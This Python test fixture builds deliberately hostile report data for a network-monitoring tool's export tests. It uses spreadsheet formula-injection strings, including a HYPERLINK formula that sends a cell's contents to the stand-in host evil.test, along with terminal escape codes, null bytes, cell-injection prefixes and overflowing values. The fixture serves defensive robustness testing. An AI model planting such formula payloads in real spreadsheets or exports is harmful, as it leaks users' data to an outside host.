"""Facts of a report with what a hostile network or file may put there, made from those of the demo."""

from msgspec.structs import replace

from monitor.report.types import (
    Checkpoint,
    ExceptionUsed,
    Facts,
    Input,
    Loaded,
    People,
    Reference,
    SensorSeen,
    Step,
)
from sensors.observations import Count, FlowKey
from tests.report_kit import demo_facts

FORMULA = '=HYPERLINK("http://evil.test/?"&A1;"click")'
ESCAPE = "\x1b[31mred\x07"
QUOTE = 'a "quoted", text\r\nover two lines'
LATE_NS = (1 << 63) + 5  # beyond what a signed 64-bit number holds
T_NS = 1_773_133_204_123_456_789  # 2026-03-10T09:00:04.123456789Z
LONG = "x" * 100_000


def hostile_facts() -> Facts:
    """Return facts that no table calculation, terminal or file format should trip over."""
    facts = demo_facts()
    (first, second, *rows), (found, *others) = facts.destinations, facts.findings
    evil = replace(first, name=FORMULA, evidence=(ESCAPE, LONG), first_ns=-1, last_ns=LATE_NS, clients=2)
    worse = replace(second, name="\x00 nothing", reasons=("\uff1dfull width", "-1+1"), clients=7)
    flow = FlowKey("", 0, "192.0.2.9", 443, "tcp", None, "vxlan:42")
    reference = Reference(0, 3, T_NS, flow, "+evil.test", 10, 20)
    step = Step(T_NS, "updated", QUOTE)
    checkpoint, lost, groups = Checkpoint("o", 9, "cm9vdA==", "k"), {"ring": Count(2, 9)}, ("acme/crm",)
    return replace(
        facts,
        title="@SUM(A1)",
        inputs=(
            *facts.inputs,
            Input("ledger", "-ledger", 2, "acme", None, checkpoint, problems={"malformed": 3}),
        ),
        loaded=(*facts.loaded, Loaded(1, T_NS, "0.1", "3", None, ("aws 1", "=geo"))),
        seen=replace(
            facts.seen,
            sensors=(
                SensorSeen("edge", 1, T_NS, LATE_NS, 5, lost, 7_900_000_000, ((T_NS, T_NS + 1),), ("dark",)),
            ),
            cautions=("Coverage is of whole captures.",),
        ),
        destinations=(evil, worse, *rows),
        findings=(replace(found, references=(reference,), steps=(step,)), *others),
        exceptions=(
            ExceptionUsed("EX-1", None, first.count, T_NS, T_NS, groups, "T-1", "\tboss", None, "2026-09-30"),
        ),
        left_out={"destinations": 4},
        people=People(),
    )  # fmt: skip
